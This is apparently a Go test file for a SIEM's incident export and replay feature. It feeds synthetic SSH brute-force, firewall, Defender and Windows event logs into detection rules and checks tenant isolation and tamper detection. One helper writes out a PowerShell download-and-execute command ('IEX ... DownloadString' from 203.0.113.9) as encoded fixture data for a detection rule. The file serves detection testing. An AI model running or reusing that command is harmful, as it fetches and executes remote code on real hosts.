package replay_test

import (
	"archive/tar"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/vedette-siem/vedette/host/module"
	"github.com/vedette-siem/vedette/host/replay"
	"github.com/vedette-siem/vedette/storage"
	"github.com/vedette-siem/vedette/storage/meta"
)

const stampForm = "2006-01-02T15:04:05.000000Z07:00"

// ssh returns a line of sshd at a moment.
func ssh(at time.Time, outcome, user, addr string) string {
	return fmt.Sprintf("%s bastion-1 sshd[2102]: %s password for %s from %s port 40022 ssh2", at.UTC().Format(stampForm), outcome, user, addr)
}

func failures(w *world, step time.Duration, n int, user func(int) string, addr string) (lines []string) {
	for i := range n {
		lines = append(lines, ssh(w.now().Add(time.Duration(i+1)*step), "Failed", user(i), addr))
	}
	return lines
}

func root(int) string { return "root" }

// defender returns what Microsoft Defender says on a host.
func defender(at time.Time, code int, host string) string {
	return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Windows Defender"}},"EventID":%d,"Level":3,`+
		`"TimeCreated":{"#attributes":{"SystemTime":%q}},"Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":%q},`+
		`"EventData":{"Threat Name":"Virus:DOS/EICAR_Test_File","Severity Name":"Severe","Detection User":"EXAMPLE\\eva","Process Name":"C:\\Windows\\explorer.exe","Path":"file:_C:\\a.com"}}}`,
		code, at.UTC().Format(time.RFC3339Nano), host)
}

func cleared(at time.Time, host string) string {
	return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,"Level":4,`+
		`"TimeCreated":{"#attributes":{"SystemTime":%q}},"Channel":"Security","Computer":%q},"UserData":{"LogFileCleared":{"SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"admin","SubjectDomainName":"EXAMPLE"}}}}`,
		at.UTC().Format(time.RFC3339Nano), host)
}

func powershell(at time.Time, host string) string {
	var code []byte
	for _, u := range utf16.Encode([]rune("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")) {
		code = append(code, byte(u), byte(u>>8))
	}
	return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Level":4,`+
		`"TimeCreated":{"#attributes":{"SystemTime":%q}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":%q},"EventData":{"UtcTime":%q,"ProcessId":"4556",`+
		`"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -enc %s","User":"EXAMPLE\\eva","ParentImage":"C:\\Windows\\explorer.exe"}}}`,
		at.UTC().Format(time.RFC3339Nano), host, at.UTC().Format("2006-01-02 15:04:05.000"), base64.StdEncoding.EncodeToString(code))
}

// privileged is a logon with administrator rights.
func privileged(at time.Time, user, host string) string {
	return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4672,"Level":0,`+
		`"TimeCreated":{"#attributes":{"SystemTime":%q}},"Channel":"Security","Computer":%q},`+
		`"EventData":{"SubjectUserSid":"S-1-5-21-1-2-3-1104","SubjectUserName":%q,"SubjectDomainName":"EXAMPLE","PrivilegeList":"SeDebugPrivilege"}}}`,
		at.UTC().Format(time.RFC3339Nano), host, user)
}

func denied(at time.Time, port int) string {
	return fmt.Sprintf(`<189>date=%s time=%s devname="fw1" devid="FGT60F" eventtime=%d tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" `+
		`srcip=198.51.100.23 srcport=40000 srcintf="wan1" srcintfrole="wan" dstip=192.0.2.10 dstport=%d dstintf="lan" dstintfrole="lan" proto=6 action="deny" policyid=0 service="tcp/%d" sentbyte=0 rcvdbyte=0`,
		at.UTC().Format("2006-01-02"), at.UTC().Format("15:04:05"), at.UnixNano(), port, port)
}

// scenes make an incident of each kind of shipped rule: count, distinct count, sequence, single match, code, absence,
// silence. after is how often it fired.
var scenes = []struct {
	kind, rule string
	count      uint64
	play       func(w *world)
}{
	{"count", "ssh-brute-force", 2, func(w *world) {
		w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 25, root, "203.0.113.5")...)
	}},
	{"distinct", "password-spray", 1, func(w *world) {
		w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 12, func(i int) string { return fmt.Sprintf("user%d", i) }, "203.0.113.6")...)
	}},
	{"sequence", "ssh-guessed-password", 1, func(w *world) {
		w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 14, root, "203.0.113.7")...)
		w.send(w.one, "10.1.1.1", time.Second, ssh(w.now().Add(time.Second), "Accepted", "root", "203.0.113.7"))
	}},
	{"distinct of another parser", "fortigate-port-scan", 1, func(w *world) {
		for port := range 26 {
			w.send(w.one, "10.1.1.2", time.Second, denied(w.now().Add(time.Second), 20+port))
		}
	}},
	{"single match", "windows-log-cleared", 2, func(w *world) {
		w.send(w.one, "10.1.1.3", time.Second, cleared(w.now(), "dc1"), cleared(w.now(), "dc1"))
	}},
	{"code", "encoded-powershell", 1, func(w *world) {
		w.send(w.one, "10.1.1.4", time.Second, powershell(w.now(), "ws-17"))
	}},
	{"absence", "windows-malware-not-removed", 1, func(w *world) {
		w.send(w.one, "10.1.1.5", time.Second, defender(w.now(), 1116, "ws-18"), defender(w.now(), 1116, "ws-19"), defender(w.now(), 1117, "ws-19"))
		w.offset.Add(int64(12 * time.Minute))
	}},
	{"silence", "silent-firewall", 1, func(w *world) {
		for i := range 3 {
			w.send(w.one, "10.1.1.6", 30*time.Second, strings.ReplaceAll(denied(w.now().Add(30*time.Second), 9000+i), "fw1", "fw2"))
		}
		w.offset.Add(int64(20 * time.Minute))
	}},
	{"code that remembers", "first-admin-logon", 1, func(w *world) {
		w.send(w.one, "10.1.1.7", time.Second, privileged(w.now(), "eva", "dc2"), privileged(w.now(), "ann", "dc3"))
		w.offset.Add(int64(8 * 24 * time.Hour))
		w.leapt()
		w.send(w.one, "10.1.1.7", time.Second, privileged(w.now(), "eva", "dc2"), privileged(w.now(), "mallory", "dc2"))
	}},
}

// TestEveryKindOfRule makes an incident of each kind live, exports it and computes it again elsewhere; what the
// neighbour sends at the same time has no part in it.
func TestEveryKindOfRule(t *testing.T) {
	w := newWorld(t)
	for _, c := range scenes {
		t.Run(c.kind, func(t *testing.T) {
			w.TB = t
			w.send(w.two, "10.1.1.1", time.Millisecond, ssh(w.now(), "Failed", "secret-of-two", "203.0.113.7"))
			c.play(w)
			in := w.incident(w.one, c.rule, c.count)
			data := w.export(of(w.one), in.ID)
			b, res := w.replay(data)
			if res.Difference != "" || res.Events != res.Records || res.Records == 0 {
				t.Errorf("%+v", res)
			}
			t.Logf("%s: %d records, %d bytes, %s", in.Title, res.Records, len(data), b.Rule.Digest)
			if bytes.Contains(data, []byte("secret-of-two")) {
				t.Error("the export holds records of another organization")
			}
			if len(in.Entities) == 0 {
				t.Error("the incident is about nobody")
			}
			if b.Rule.Who != "" || len(b.Parsers) == 0 || b.Parsers[0].Install.Who != "" {
				t.Errorf("the export tells who installed what: %+v, %+v", b.Rule, b.Parsers)
			}
			if again := w.export(of(w.one), in.ID); !bytes.Equal(again, data) {
				t.Error("another export of the same incident differs")
			}
		})
	}
}

// TestPeoplesPartIsTakenOver: what people did is not computed, and an incident that was resolved ends where the next of
// its key begins, although the rule knows nothing of that.
func TestPeoplesPartIsTakenOver(t *testing.T) {
	w := newWorld(t)
	act := func(id string, do, arg string) {
		w.control(module.Control{Kind: module.Incident, Tenant: w.one, Who: "ann", IncidentID: id, Action: do, Argument: arg})
	}
	w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 15, root, "203.0.113.5")...)
	first := w.incident(w.one, "ssh-brute-force", 1)
	act(first.ID, "severity", "low")
	act(first.ID, "resolved", "benign")
	w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 25, root, "203.0.113.5")...)
	second := w.incident(w.one, "ssh-brute-force", 3)
	act(first.ID, "commented", "after the next one began")
	for _, id := range []string{first.ID, second.ID} {
		if _, res := w.replay(w.export(of(w.one), id)); res.Difference != "" {
			t.Errorf("%s: %+v", id, res)
		}
	}
}

// TestWhatDiffersIsNamed changes an export in one place at a time.
func TestWhatDiffersIsNamed(t *testing.T) {
	w := newWorld(t)
	w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 15, root, "203.0.113.5")...)
	in := w.incident(w.one, "ssh-brute-force", 1)
	data := w.export(of(w.one), in.ID)
	for _, c := range []struct{ what, from, to, want string }{
		{"a record", `Failed password for root`, `Failed password for rooT`, "related.user"},
		{"a field", `["source.port","40022"]`, `["source.port","40023"]`, "source.port"},
		{"the count", `"Count": 1`, `"Count": 2`, "count: stored 2, computed 1"},
		{"the title", `"Title": "10 failed`, `"Title": "11 failed`, "title"},
		{"a condition", `"actual": "10"`, `"actual": "11"`, "condition 1"},
		{"an entity", `"value": "bastion-1"`, `"value": "bastion-2"`, "entity"},
		{"the id", in.ID, strings.Repeat("0", len(in.ID)), "opens it"},
	} {
		t.Run(c.what, func(t *testing.T) {
			w.TB = t
			_, res := w.replay(edited(t, data, c.from, c.to))
			if !strings.Contains(res.Difference, c.want) {
				t.Errorf("difference %q, want %q in it", res.Difference, c.want)
			}
		})
	}
}

// edited replaces a text in the files of an export.
func edited(t *testing.T, data []byte, from, to string) []byte {
	t.Helper()
	var out bytes.Buffer
	w, r, found := tar.NewWriter(&out), tar.NewReader(bytes.NewReader(data)), false
	for {
		h, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(h.Name, "packages/") {
			found = found || bytes.Contains(b, []byte(from))
			b = bytes.ReplaceAll(b, []byte(from), []byte(to))
		}
		h.Size = int64(len(b))
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(b); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil || !found {
		t.Fatal(found, err)
	}
	return out.Bytes()
}

func TestExportIsRefused(t *testing.T) {
	w := newWorld(t)
	w.send(w.one, "10.1.1.1", time.Second, failures(w, time.Second, 15, root, "203.0.113.5")...)
	in := w.incident(w.one, "ssh-brute-force", 1)
	err := replay.Export(t.Context(), w.host(), of(w.two), in.ID, io.Discard)
	if !errors.Is(err, storage.ErrNotFound) {
		t.Errorf("to another organization: %v", err)
	}
	h := w.host()
	h.Generation = &module.Generation{}
	if err := replay.Export(t.Context(), h, of(w.one), in.ID, io.Discard); !errors.Is(err, replay.ErrCannot) {
		t.Errorf("without the rule: %v", err)
	}
}

func FuzzRead(f *testing.F) {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for name, text := range map[string]string{
		"records/00001.jsonl": `{"id":"1-0-0-0-0","raw":"x","fields":[["a","b"]]}` + "\n",
		"lists/00001.jsonl":   `{"list":"l","kind":"cidr","value":"10.0.0.0/8","since":1}` + "\n",
		"tables/00":           `{"kind":"exact","columns":["a"]}` + "\n",
		"manifest.json":       `{"format":2,"events":1,"listed":1,"incident":{"ID":"x","Tenant":1,"Rule":"r"}}`,
	} {
		if err := w.WriteHeader(&tar.Header{Name: name, Size: int64(len(text)), Mode: 0o644}); err != nil {
			f.Fatal(err)
		}
		io.WriteString(w, text)
	}
	w.Close()
	f.Add(b.Bytes())
	f.Fuzz(func(t *testing.T, data []byte) {
		bundle, err := replay.Read(bytes.NewReader(data))
		if (bundle == nil) == (err == nil) && err == nil {
			t.Fatal("no export and no error")
		}
	})
}

// TestLateRecords: senders deliver out of order and with delay, beside others whose clocks run on. What is exported
// then either comes out equal or is said to have depended on those clocks; it never differs.
func TestLateRecords(t *testing.T) {
	w := newWorld(t)
	random := rand.New(rand.NewPCG(1, 2))
	for n := range 12 {
		addr := fmt.Sprintf("203.0.113.%d", 100+n)
		for range 60 {
			late := 0
			if random.IntN(8) == 0 {
				late = random.IntN(60)
			}
			at := w.now().Add(-time.Duration(late) * time.Second)
			w.send(w.one, fmt.Sprintf("10.1.1.%d", random.IntN(2)), time.Duration(random.IntN(3000))*time.Millisecond, ssh(at, "Failed", "root", addr))
			w.send(w.one, "10.1.1.9", 0, ssh(w.now(), "Failed", "nobody", "198.51.100.1"))
		}
	}
	w.eventually("everything to be processed", func() bool { return w.pipeline.Positions().Processed >= w.queue.Last() })
	page, err := w.db.ListIncidents(t.Context(), of(w.one), meta.IncidentQuery{Rule: "ssh-brute-force"})
	w.must(err)
	equal := 0
	for _, in := range page.Incidents {
		b, err := replay.Read(bytes.NewReader(w.export(of(w.one), in.ID)))
		w.must(err)
		res, err := b.Run(t.Context(), cacheDir)
		if err != nil && !errors.Is(err, replay.ErrCannot) || res.Difference != "" && err == nil {
			t.Errorf("%s: %+v, %v", in.Title, res, err)
		}
		if err == nil {
			equal++
		}
	}
	t.Logf("%d of %d incidents are equal", equal, len(page.Incidents))
	if len(page.Incidents) < 8 || equal < len(page.Incidents)/2 {
		t.Errorf("%d of %d incidents are equal", equal, len(page.Incidents))
	}
}

// TestReadLimits: an export that holds more than one may is refused.
func TestReadLimits(t *testing.T) {
	head := `{"format":2,"incident":{"ID":"x","Tenant":1,"Rule":"r"}`
	for what, file := range map[string][2]string{
		"inner rules": {"manifest.json", head + `,"inner":[` + strings.Repeat(`{},`, replay.MaxInner) + `{}]}`},
		"tables":      {"manifest.json", head + `,"tables":[` + strings.Repeat(`{},`, replay.MaxTables) + `{}]}`},
		"forgets":     {"manifest.json", head + `,"forgets":[` + strings.Repeat(`{},`, replay.MaxForgets) + `{}]}`},
		"lines":       {"lists/00001.jsonl", strings.Repeat("{}\n", replay.MaxListed+1)},
	} {
		var b bytes.Buffer
		w := tar.NewWriter(&b)
		err := w.WriteHeader(&tar.Header{Name: file[0], Size: int64(len(file[1])), Mode: 0o644})
		if _, e := io.WriteString(w, file[1]); errors.Join(err, e, w.Close()) != nil {
			t.Fatal(err, e)
		}
		if _, err := replay.Read(&b); !errors.Is(err, storage.ErrInvalid) || strings.Contains(err.Error(), "ends early") {
			t.Errorf("%s: %v", what, err)
		}
	}
}
